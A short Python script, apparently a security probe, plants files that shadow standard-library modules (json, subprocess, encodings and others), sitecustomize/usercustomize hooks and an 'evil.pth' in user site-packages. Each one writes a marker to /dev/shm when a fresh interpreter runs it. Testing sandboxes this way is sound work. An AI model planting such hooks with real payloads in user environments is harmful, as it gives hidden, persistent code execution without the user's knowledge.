# Attack: modules and start-up hooks in the work dir and HOME that a fresh interpreter started there would run.
# Each writes a marker to /dev/shm when it runs (and then behaves like nothing happened).
import os, sys
hook = "import os\nopen('/dev/shm/ran-%s', 'w').close()\n"
for name in ("json", "subprocess", "selectors", "signal", "resource", "types", "traceback", "sitecustomize",
             "usercustomize", "encodings"):
    with open(name + ".py", "w") as f:
        f.write(hook % name)
site = os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])
os.makedirs(site, exist_ok=True)
with open(os.path.join(site, "evil.pth"), "w") as f:
    f.write("import os; open('/dev/shm/ran-pth', 'w').close()\n")
print("planted")
